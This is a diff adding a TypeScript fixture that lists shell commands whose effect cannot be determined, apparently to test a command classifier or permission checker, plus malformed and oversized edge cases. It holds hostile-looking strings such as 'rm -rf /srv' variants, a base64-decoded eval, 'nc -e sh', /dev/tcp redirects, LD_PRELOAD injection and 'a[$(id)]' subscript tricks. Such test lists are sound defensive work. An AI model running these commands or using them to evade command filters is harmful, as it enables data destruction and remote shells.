@@ -1,0 +1,169 @@
+/** Ways to do something of which nobody can say what it is: asked for, at least. */
+export const UNCLEAR: readonly string[] = String.raw`
+$X
+$(echo rm) -rf /srv
+"$X" -rf /srv
+/bin/r?
+/b*n/rm -rf /srv
+eval "$X"
+eval $(echo cm0= | base64 -d)
+. ./x
+source /tmp/x
+python3 -c 'import os; os.system("id")'
+perl -e 'unlink "/srv"'
+ruby -e 1
+node -e 1
+php -r 1
+lua x
+awk 'BEGIN{system("id")}'
+awk 'BEGIN{"id" | getline}'
+awk '{print > "/etc/x"}' a
+awk -f x a
+sed 's/a/id/e' a
+sed '1e id' a
+sed 'w /etc/x' a
+sed -n '/x/w /etc/x' a
+sed -f x a
+vi x
+vim -c ':!id'
+less x
+man ls
+ed x
+git log
+git -c core.pager=id log
+make
+npm install
+tar --to-command=id -xf a.tar
+tar -I id -xf a.tar
+tar --checkpoint=1 --checkpoint-action=exec=id -cf a b
+tar xf a.tar --use-compress-program id
+sort --compress-program=id a
+sort -S1 --compress-prog id a
+rsync -e id a b
+scp a b:
+curl http://x
+wget http://x
+nc -e sh x 1
+socat - x
+ssh host
+docker exec web sh
+docker run x
+kubectl exec x
+apt install x
+dpkg -i x.deb
+crontab x
+at now
+batch
+gdb -ex id
+env PATH=/tmp ls
+PATH=/tmp ls
+PATH=/tmp; ls
+export PATH=/tmp; ls
+LD_PRELOAD=/tmp/x ls
+LD_PRELOAD=/tmp/x.so; ls
+IFS=x ls
+BASH_ENV=/tmp/x ls
+PAGER=id ls
+sudo LD_PRELOAD=/tmp/x ls
+LANG=/tmp/x ls
+alias ls=rm; ls
+ls() { id; }; ls
+hash -p /tmp/x ls
+enable -f /tmp/x x
+path=(/tmp); ls
+path=/tmp; ls
+set -- a; $1
+exec -a x
+xargs
+parallel
+find . $X
+find . -fprint0 x -okdir $X {} +
+./ls
+/tmp/ls
+bin/ls
+/usr/bin/../../tmp/ls
+ls $'a'
+ls $"a"
+ls {a,b}
+ls =ls
+ls a(b)
+ls !(a)
+ls <(id)
+ls <<< x
+ls &> x
+ls |& cat
+ls >& x
+cat < /dev/tcp/x/1
+echo x > /dev/tcp/x/1
+[[ -f x ]]
+((x=1))
+for ((;;)); do ls; done
+select x in a; do ls; done
+coproc ls
+echo $((x))
+echo $((a[0]))
+echo ${'$'}{x@P}
+echo ${'$'}{!x}
+echo ${'$'}{x:=y}
+echo ${'$'}{a[$(id)]}
+test 'a[$(id)]' -eq 1
+[ 'a[$(id)]' -eq 1 ]
+printf %d 'a[$(id)]'
+printf -v PATH x
+read PATH
+unset PATH
+typeset -i x
+let x=1
+trap id EXIT
+shopt -s expand_aliases
+history
+fc -s
+!!; $X
+echo 'a\'; ls
+ls 'a\' b
+foo
+sudo -i
+sudo -s
+sudo -e x
+su
+su - root
+top
+date 010100002026
+hostname x
+date $X
+ip link set eth0 down
+ip netns exec x id
+mount /dev/sda /mnt
+nft -f x
+if ls; then
+ls "
+ls '
+ls )
+echo \
+cat <1-5>x
+time
+openssl enc -in x
+dd bogus
+strings -x y
+zsh -c 'ls'; $X
+fish -c ls
+bash -c
+bash -O extglob -c ls
+sh -i -c ls
+`
+  .split('\n')
+  .filter((line) => line !== '' && !['time', 'xargs', 'exec -a x', 'at now'].includes(line))
+  .concat(
+    'ls\u0000',
+    'ls\r',
+    'ls \u001b[0m',
+    'ls\u00a0x',
+    'ls \u200bx',
+    'ls \u{FFFD}',
+    'l\u00a0s',
+    `ls ${'x'.repeat(200_000)}`,
+    'cat <<E\nfoo\\\nE\nE',
+    'cat <<E\nx',
+    `${'('.repeat(400)}ls${')'.repeat(400)}`,
+    `${'sudo '.repeat(100)}ls`,
+  );
